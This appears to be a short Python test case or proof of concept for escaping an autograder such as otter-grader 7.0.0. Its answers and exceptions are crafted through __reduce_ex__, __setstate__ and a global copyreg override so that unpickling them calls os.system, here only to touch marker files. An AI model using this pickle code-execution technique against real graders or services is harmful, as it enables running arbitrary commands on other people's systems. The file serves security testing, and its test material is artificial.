"""Answers, names and exceptions are objects that run a command when they are unpickled.

naive: a command run in the grading process, as otter-grader 7.0.0 did in its parent.
answers: own
reached: poisoned: True
"""
# %%
import copyreg, os, pickle
class Poison(Exception):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/escaped-by-pickle /dev/shm/escaped-by-pickle",)
    __reduce__ = lambda self: self.__reduce_ex__(2)
    __getstate__ = __getnewargs_ex__ = lambda self: ((), {})
    __setstate__ = lambda self, state: os.system("touch /tmp/escaped-by-state")
copyreg.pickle(int, lambda value: (os.system, ("touch /tmp/escaped-by-copyreg",)))
print("poisoned:", b"system" in pickle.dumps(Poison()))
calls = iter([Poison(), [Poison()], {Poison(): Poison()}] * 9)
def f2(x):
    if x == -4:
        raise Poison(Poison())
    return next(calls)
